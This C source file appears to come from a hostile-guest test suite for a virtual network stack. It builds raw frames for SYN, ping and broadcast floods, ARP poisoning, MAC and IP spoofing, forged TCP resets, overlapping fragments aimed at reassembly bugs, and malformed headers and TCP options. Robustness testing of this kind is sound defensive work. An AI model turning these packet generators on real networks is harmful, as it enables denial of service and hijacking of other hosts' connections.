/* SPDX-License-Identifier: MIT */
/* Frames: floods, forgeries, and packets that a neighbour's stack should choke on. */
#include "testsuite/hostile/guest/attack.h"

#define BURST 200u

static uint8_t frame[1514];

static void put16(uint8_t *at, uint32_t value)
{
    at[0] = (uint8_t)(value >> 8);
    at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
    put16(at, value >> 16);
    put16(at + 2, value & 0xffff);
}

static uint32_t sum16(const uint8_t *at, uint32_t len, uint32_t sum)
{
    for (uint32_t i = 0; i + 1 < len; i += 2)
        sum += (uint32_t)at[i] << 8 | at[i + 1];
    if (len & 1)
        sum += (uint32_t)at[len - 1] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return sum;
}

static void ethernet(const uint8_t *to, const uint8_t *from, uint16_t type)
{
    memcpy(frame, to, 6);
    memcpy(frame + 6, from, 6);
    put16(frame + 12, type);
}

/* An IPv4 packet for the victim with `len` bytes behind its head. */
static uint8_t *ip_to_victim(uint8_t protocol, uint32_t len, uint32_t source)
{
    uint8_t *ip = frame + 14;
    ethernet(target.mac, target.own_mac, 0x0800);
    memset(ip, 0, 20);
    ip[0] = 0x45;
    put16(ip + 2, 20 + len);
    put16(ip + 4, draw());
    ip[8] = 64;
    ip[9] = protocol;
    put32(ip + 12, source);
    put32(ip + 16, target.ip);
    put16(ip + 10, ~sum16(ip, 20, 0));
    return ip + 20;
}

static void seal(uint8_t protocol, uint8_t *at, uint32_t len, uint32_t field)
{
    put16(at + field, 0);
    uint32_t sum = sum16(frame + 26, 8, protocol + len);
    put16(at + field, ~sum16(at, len, sum));
}

static void send_many(uint32_t len, uint32_t count)
{
    while (count--)
        nic_send(frame, len);
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
}

void attack_net_flood_victim(uint32_t round)
{
    ip_to_victim(17, 26, target.own_ip);
    send_many(60, BURST);
    (void)round;
}

void attack_net_flood_large(uint32_t round)
{
    ip_to_victim(17, 1480, target.own_ip);
    send_many(1514, BURST);
    (void)round;
}

/* Whatever comes is never taken. */
void attack_net_full_queue(uint32_t round)
{
    ip_to_victim(1, 40, target.own_ip);
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *icmp = ip_to_victim(1, 40, target.own_ip);
        icmp[0] = 8;
        put16(icmp + 2, ~sum16(icmp + 4, 36, 0x0800));
        nic_send(frame, 74);
    }
    (void)round;
}

void attack_net_broadcast_storm(uint32_t round)
{
    static const uint8_t all[6] = {255, 255, 255, 255, 255, 255};
    ip_to_victim(17, 26, target.own_ip);
    memcpy(frame, all, 6);
    send_many(60, BURST);
    (void)round;
}

void attack_net_multicast_storm(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        ip_to_victim(17, 26, target.own_ip);
        frame[0] = 1;
        frame[5] = (uint8_t)draw();
        nic_send(frame, 60);
    }
    (void)round;
}

static void arp(uint32_t op, const uint8_t *mac, uint32_t sender, uint32_t wanted)
{
    uint8_t *a = frame + 14;
    memset(a, 0, 46);
    put16(a, 1);
    put16(a + 2, 0x0800);
    a[4] = 6;
    a[5] = 4;
    put16(a + 6, op);
    memcpy(a + 8, mac, 6);
    put32(a + 14, sender);
    memcpy(a + 18, target.mac, 6);
    put32(a + 24, wanted);
}

void attack_net_arp_storm(uint32_t round)
{
    static const uint8_t all[6] = {255, 255, 255, 255, 255, 255};
    for (unsigned i = 0; i < BURST; i++) {
        ethernet(all, target.own_mac, 0x0806);
        arp(1, target.own_mac, target.own_ip, i & 1 ? target.ip : 0x0a000000 | (draw() & 0xffffff));
        nic_send(frame, 60);
    }
    (void)round;
}

/* "The client is me": in the ARP's sender, in the answer, unasked for. */
void attack_net_arp_poison(uint32_t round)
{
    const uint32_t client = 0x0a000001;
    for (unsigned i = 0; i < BURST; i++) {
        ethernet(target.mac, target.own_mac, 0x0806);
        arp(1 + (i & 1), target.own_mac, client, target.ip);
        nic_send(frame, 60);
        arp(2, target.mac, target.ip, client);
        nic_send(frame, 60);
    }
    (void)round;
}

void attack_net_forged_addresses(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t mac[6];
        memcpy(mac, target.own_mac, 6);
        mac[i % 6] ^= (uint8_t)(1 + draw_below(255));
        ip_to_victim(17, 26, target.own_ip);
        memcpy(frame + 6, mac, 6); /* another's MAC */
        nic_send(frame, 60);
        ip_to_victim(17, 26, 0x0a000001); /* another's address */
        nic_send(frame, 60);
        ip_to_victim(17, 26, draw());
        nic_send(frame, 60);
    }
    (void)round;
}

/* The client's own connections, reset in its name. */
void attack_net_forged_resets(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *tcp = ip_to_victim(6, 20, 0x0a000001);
        memset(tcp, 0, 20);
        put16(tcp, 1024 + draw_below(64000));
        put16(tcp + 2, 80);
        put32(tcp + 4, draw());
        tcp[12] = 0x50;
        tcp[13] = 0x04;
        seal(6, tcp, 20, 16);
        nic_send(frame, 60);
    }
    (void)round;
}

static void syn(uint8_t flags)
{
    uint8_t *tcp = ip_to_victim(6, 20, target.own_ip);
    memset(tcp, 0, 20);
    put16(tcp, 1024 + draw_below(64000));
    put16(tcp + 2, 80);
    put32(tcp + 4, draw());
    put32(tcp + 8, draw());
    tcp[12] = 0x50;
    tcp[13] = flags;
    put16(tcp + 14, 0xffff);
    seal(6, tcp, 20, 16);
}

void attack_net_syn_flood(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        syn(0x02);
        nic_send(frame, 60);
    }
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
    (void)round;
}

/* Segments of no connection: each would be answered by a reset. */
void attack_net_stray_segments(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        syn((uint8_t)draw());
        nic_send(frame, 60);
    }
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
    (void)round;
}

void attack_net_ping_flood(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *icmp = ip_to_victim(1, 1480, target.own_ip);
        memset(icmp, 0, 8);
        icmp[0] = 8;
        put16(icmp + 2, ~sum16(icmp, 1480, 0));
        nic_send(frame, 1514);
    }
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
    (void)round;
}

void attack_net_udp_closed_ports(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *udp = ip_to_victim(17, 40, target.own_ip);
        put16(udp, 9);
        put16(udp + 2, draw());
        put16(udp + 4, 40);
        seal(17, udp, 40, 6);
        nic_send(frame, 74);
    }
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
    (void)round;
}

/* Use after free in reassembly: pieces that overlap, repeat, end before they begin. */
void attack_net_fragments(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint32_t len = 8 * (1 + draw_below(180));
        uint8_t *ip = frame + 14;
        ip_to_victim(i & 1 ? 17 : 1, len, target.own_ip);
        put16(ip + 4, draw_below(6));
        put16(ip + 6, (draw_below(3) ? 0x2000 : 0) | draw_below(round & 1 ? 8192 : 400));
        put16(ip + 10, 0);
        put16(ip + 10, ~sum16(ip, 20, 0));
        nic_send(frame, 34 + len);
    }
}

/* Lengths in the heads that do not fit the frame. */
void attack_net_wrong_lengths(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *ip = frame + 14;
        uint8_t *tcp = ip_to_victim(i % 3 == 0 ? 6 : i % 3 == 1 ? 17 : 1, 40, target.own_ip);
        for (unsigned k = 0; k < 40; k++)
            tcp[k] = (uint8_t)draw();
        put16(tcp + 2, 80);
        put16(ip + 2, i & 1 ? draw() : draw_below(100));
        ip[0] = (uint8_t)(0x40 | draw_below(16));
        put16(ip + 10, 0);
        put16(ip + 10, ~sum16(ip, 20, 0));
        nic_send(frame, 14 + draw_below(100));
    }
    (void)round;
}

void attack_net_garbage(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint32_t len = 14 + draw_below(1500);
        ip_to_victim((uint8_t)draw(), len, target.own_ip);
        for (uint32_t k = 34; k < len; k += 4)
            put32(frame + (k < 1510 ? k : 1510), draw());
        nic_send(frame, len);
    }
    (void)round;
}

/* TCP options that do not end, or are longer than the head. */
void attack_net_tcp_options(uint32_t round)
{
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *tcp = ip_to_victim(6, 60, target.own_ip);
        memset(tcp, 0, 20);
        for (unsigned k = 20; k < 60; k++)
            tcp[k] = (uint8_t)(k & 1 ? draw() : draw_below(9));
        put16(tcp, 1024 + draw_below(60000));
        put16(tcp + 2, 80);
        put32(tcp + 4, draw());
        tcp[12] = 0xf0;
        tcp[13] = 0x02;
        put16(tcp + 14, 0xffff);
        seal(6, tcp, 60, 16);
        nic_send(frame, 94);
    }
    while (nic_receive(heap + 4096, 1514) > 0)
        ;
    (void)round;
}

void attack_net_dhcp_storm(uint32_t round)
{
    static const uint8_t all[6] = {255, 255, 255, 255, 255, 255};
    for (unsigned i = 0; i < BURST; i++) {
        uint8_t *udp = ip_to_victim(17, 8 + 250, 0);
        memcpy(frame, all, 6);
        put32(frame + 30, 0xffffffff);
        put16(udp, 68);
        put16(udp + 2, 67);
        put16(udp + 4, 258);
        memset(udp + 8, 0, 250);
        udp[8] = 1;
        udp[9] = 1;
        udp[10] = 6;
        memcpy(udp + 36, i & 1 ? target.own_mac : target.mac, 6);
        put32(udp + 244, 0x63825363);
        udp[248] = 53;
        udp[249] = 1;
        udp[250] = (uint8_t)(i & 7);
        put16(frame + 24, 0);
        put16(frame + 24, ~sum16(frame + 14, 20, 0));
        nic_send(frame, 14 + 20 + 258);
    }
    (void)round;
}
